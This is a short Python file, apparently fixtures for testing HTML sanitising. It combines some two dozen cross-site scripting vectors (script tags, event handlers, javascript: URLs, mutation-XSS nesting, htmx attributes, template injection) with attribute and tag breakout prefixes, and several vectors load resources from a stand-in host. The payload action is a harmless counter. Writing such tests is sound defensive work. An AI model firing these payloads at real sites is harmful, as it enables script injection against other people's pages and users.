"""Text that would run as code on a page that does not write it as text: each is one attempt of its own."""

from itertools import product

RUN = "window.ran=(window.ran||0)+1"
"""What each of them tries to do; those that cannot, ask another host for something."""

THERE = "//elsewhere.example"

WHAT = (
    f"<script>{RUN}</script>",
    f"<script src={THERE}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={THERE}/pixel.gif>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={THERE}/x.swf>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@import '{THERE}/x.css'</style>",
    f"<link rel=stylesheet href={THERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={THERE}/'>",
    f"<base href={THERE}/>",
    f"<form action={THERE}/><button autofocus>go</button></form>",
    f"<p style=background:url({THERE}/x.png)>",
    f"<div hx-get={THERE}/ hx-trigger=load></div>",
    f"<div hx-on::load={RUN} hx-on:htmx:load={RUN}></div>",
    f"<marquee onstart={RUN}>",
    "{{ constructor.constructor('" + RUN + "')() }}{% debug %}",
    f"<a href=javascript:{RUN} autofocus>here</a>",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
)

OUT_OF = (
    "{}",
    '">{}',
    "'>{}",
    '" autofocus onfocus=' + RUN + ' x="{}',
    "' onmouseover=" + RUN + " x='{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "--><!-->{}",
    "]]>{}",
    "</mark></span></p>{}",
    "<noscript><p title='</noscript>{}'>",
    "</template></select></option>{}",
    "\u202e{}\u202c",
    "\ufeff\u200b{}",
    "&lt;b&gt;{}&lt;/b&gt;",
    "\\u003c\\x3c{}",
)

PAYLOADS = tuple(out_of.replace("{}", what) for out_of, what in product(OUT_OF, WHAT))


def packed(payloads: tuple[str, ...], longest: int) -> str:
    """As many of them, from the first, as fit into so many characters."""
    text = ""
    for each in payloads:
        if len(text) + len(each) + 1 > longest:
            break
        text = f"{text} {each}".strip()
    return text
